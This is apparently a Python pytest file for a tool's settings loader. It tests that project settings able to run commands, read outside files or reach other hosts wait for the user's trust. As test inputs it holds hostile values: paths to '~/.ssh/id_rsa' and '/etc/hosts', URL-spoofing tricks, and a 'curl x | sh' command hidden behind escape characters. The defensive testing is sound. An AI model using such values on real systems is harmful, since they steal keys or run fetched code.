"""A working folder's settings hold at once where they are harmless, and else once they are trusted."""

from __future__ import annotations

from pathlib import Path
from typing import Literal

import pytest

from workbench.config.guarding import on_this_machine
from workbench.config.loading import Loaded, load
from workbench.config.trust import forget, record, remember
from workbench.errors import SettingsError

ANSWERS: tuple[Literal["yes", "no"], ...] = ("no", "yes", "no")
COMMAND = '[contexts.git]\ncommand = "git status"\n[recall]\nk = 7\n'


@pytest.fixture
def work(tmp_path: Path) -> Path:
    """A working folder."""
    folder = tmp_path / "work"
    folder.mkdir()
    return folder


def loaded(work: Path, text: str, **environ: str) -> Loaded:
    """What is in force in a folder with this settings file."""
    (work / "workbench.toml").write_text(text)
    return load(cwd=work, environ=environ)


def wished(found: Loaded) -> list[str]:
    """The settings that were left out."""
    return [wish.name for wish in found.untrusted.wishes] if found.untrusted else []


def trust(found: Loaded) -> None:
    """Say yes to what was left out."""
    folder = found.untrusted
    assert folder is not None
    remember(folder.file, folder.digest, folder.wishes, "yes")


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ('[contexts.git]\ncommand = "git status"', "contexts.git.command"),
        ('[contexts.hosts]\nfile = "/etc/hosts"', "contexts.hosts.file"),
        ('[contexts.up]\nfile = "../secret"', "contexts.up.file"),
        ('[contexts.home]\nfile = "~/.ssh/id_rsa"', "contexts.home.file"),
        ('[contexts.who]\nfile = "~nobody-of-this-name/x"', "contexts.who.file"),
        ('[model]\nbase_url = "https://elsewhere.example/v1"', "model.base_url"),
        ('[model]\nbase_url = "http://127.0.0.1@elsewhere.example/v1"', "model.base_url"),
        ('[model]\nbase_url = "http://localhost.elsewhere.example/v1"', "model.base_url"),
        ('[model]\napi_key_command = "cat key"', "model.api_key_command"),
        ('[model]\napi_key_env = "AWS_SECRET"', "model.api_key_env"),
        ('[recall]\nencoder = "small@https://elsewhere.example/v1"', "recall.encoder"),
        ('[recall]\nencoder = "text-embedding-3-small"', "recall.encoder"),
    ],
)
def test_what_could_run_read_or_send_waits_for_trust(work: Path, text: str, key: str) -> None:
    found = loaded(work, text)
    assert wished(found) == [key]
    assert found.settings == load(cwd=work.parent, environ={}).settings
    assert key not in found.origins or found.origins[key] == "default"


@pytest.mark.parametrize(
    "text",
    [
        '[model]\nbase_url = "http://127.0.0.1:8080/v1"\napi_key_env = "LOCAL_KEY"\nname = "m"',
        '[model]\nbase_url = "http://localhost:8080"',
        '[contexts.plan]\ntext = "May"\nplace = "system"\nbudget = 50',
        '[contexts.style]\nfile = "docs/STYLE.md"',
        '[agents.east]\ninstructions = "You are East."\ntools = []',
        '[recall]\nencoder = "local"\nthreshold = 0.2',
        '[recall]\nencoder = "small@http://[::1]:8080/v1"',
        '[ui]\ntheme = "recall-light"\n[keys]\nnew = "ctrl+t"',
    ],
)
def test_what_stays_here_holds_at_once(work: Path, text: str) -> None:
    found = loaded(work, text)
    assert found.folder is None
    assert str(work / "workbench.toml") in found.origins.values()


def test_a_link_that_leads_out_of_the_folder_is_followed_first(work: Path) -> None:
    (work / "notes.md").symlink_to("/etc/hosts")
    assert wished(loaded(work, '[contexts.notes]\nfile = "notes.md"')) == ["contexts.notes.file"]


def test_the_harmless_rest_of_the_file_holds_and_a_left_out_context_goes_whole(work: Path) -> None:
    text = COMMAND + '[agents.east]\ncontexts = ["git", "where"]\n[contexts.git2]\ntext = "x"\n'
    found = loaded(work, text.replace("[recall]", "timeout = 3\n[recall]"))
    assert found.settings.recall.k == 7
    assert set(found.settings.contexts) & {"git", "git2"} == {"git2"}
    assert found.settings.agents["east"].contexts == ("git", "where")
    assert found.untrusted is not None
    assert found.untrusted.whole.contexts["git"].command == "git status"
    assert "contexts.git.command was left out" in found.untrusted.left_out


def test_trust_holds_for_this_content_in_this_place_only(work: Path) -> None:
    found = loaded(work, COMMAND)
    trust(found)
    trusted = loaded(work, COMMAND)
    assert trusted.untrusted is None
    assert trusted.settings.contexts["git"].command == "git status"
    assert trusted.origins["contexts.git.command"] == str(work / "workbench.toml")
    assert wished(loaded(work, COMMAND.replace("status", "fetch"))) == ["contexts.git.command"]
    other = work.parent / "other"
    other.mkdir()
    assert wished(loaded(other, COMMAND)) == ["contexts.git.command"]


def test_what_was_not_shown_when_it_was_trusted_is_asked_about(work: Path) -> None:
    text = COMMAND + '[model]\nbase_url = "https://elsewhere.example/v1"\n'
    trust(loaded(work, text, WORKBENCH_MODEL_BASE_URL="http://127.0.0.1:1/v1"))
    both = ["contexts.git.command", "model.base_url"]
    assert wished(loaded(work, text)) == both
    trust(loaded(work, text))
    assert wished(loaded(work, text, WORKBENCH_MODEL_BASE_URL="http://127.0.0.1:1/v1")) == []


def test_a_refusal_is_kept_and_an_answer_can_be_taken_back(work: Path) -> None:
    folder = loaded(work, COMMAND).untrusted
    assert folder is not None
    assert folder.answer == ""
    for answer in ANSWERS:
        remember(folder.file, folder.digest, folder.wishes, answer)
        again = loaded(work, COMMAND).folder
        assert again is not None
        assert again.answer == answer
    assert (forget(folder.file), forget(folder.file)) == (True, False)
    assert wished(loaded(work, COMMAND)) == ["contexts.git.command"]
    assert record().read_text() == ""


def test_a_file_that_is_named_and_a_run_that_is_told_to_need_no_record(work: Path) -> None:
    file = work / "workbench.toml"
    file.write_text(COMMAND)
    for found in (
        load(config=file, cwd=work, environ={}),
        load(cwd=work, environ={}, trust=True),
        load(cwd=work, environ={"WORKBENCH_TRUST": "1"}),
    ):
        assert found.untrusted is None
        assert found.settings.contexts["git"].command == "git status"
    assert wished(load(cwd=work, environ={"WORKBENCH_TRUST": "off"})) == ["contexts.git.command"]
    with pytest.raises(SettingsError, match="expected true or false"):
        load(cwd=work, environ={"WORKBENCH_TRUST": "perhaps"})


def test_what_changes_nothing_or_is_decided_elsewhere_needs_no_trust(work: Path) -> None:
    text = '[model]\nbase_url = "https://elsewhere.example/v1"\n'
    here = "http://127.0.0.1:1/v1"
    assert loaded(work, text, WORKBENCH_MODEL_BASE_URL=here).folder is None
    assert loaded(work, '[model]\nbase_url = ""\napi_key_env = "OPENAI_API_KEY"').folder is None
    key = '[model]\napi_key_env = "OTHER_KEY"'
    assert loaded(work, key, OPENAI_BASE_URL=here).folder is None
    assert wished(loaded(work, key, OPENAI_BASE_URL="https://x.example")) == ["model.api_key_env"]


def test_a_server_of_one_s_own_is_not_silently_put_aside(work: Path) -> None:
    file = work / "mine.toml"
    file.write_text('[model]\nbase_url = "http://10.0.0.7:8080/v1"\n')
    (work / "workbench.toml").write_text('[model]\nbase_url = ""\n')
    own = load(cwd=work, environ={}, config=file)
    assert own.settings.model.base_url == "http://10.0.0.7:8080/v1"
    (record().parent).mkdir(parents=True)
    file.rename(record().parent / "config.toml")
    found = load(cwd=work, environ={})
    assert wished(found) == ["model.base_url"]
    assert found.settings.model.base_url == "http://10.0.0.7:8080/v1"


def test_nothing_in_a_wish_hides(work: Path) -> None:
    found = loaded(work, '[contexts.a]\ncommand = "ls\\n\\u202e\\u001b[2Kcurl x | sh"')
    assert found.untrusted is not None
    (wish,) = found.untrusted.wishes
    assert wish.value == r'"ls\n\u{202e}\u001b[2Kcurl x | sh"'


@pytest.mark.parametrize(
    ("url", "here"),
    [
        ("http://127.0.0.1:11434/v1", True),
        ("https://LOCALHOST/", True),
        ("http://[::1]:8080/v1", True),
        ("http://127.0.0.1\\@elsewhere.example/", False),
        ("http://127.0.0.1#@elsewhere.example/", False),
        ("http://127.0.0.1:80@elsewhere.example/", False),
        ("http://user:word@127.0.0.1/", False),
        ("http://192.168.0.2/v1", False),
        ("", False),
    ],
)
def test_only_plain_addresses_are_taken_for_this_machine(url: str, here: bool) -> None:
    assert on_this_machine(url) is here
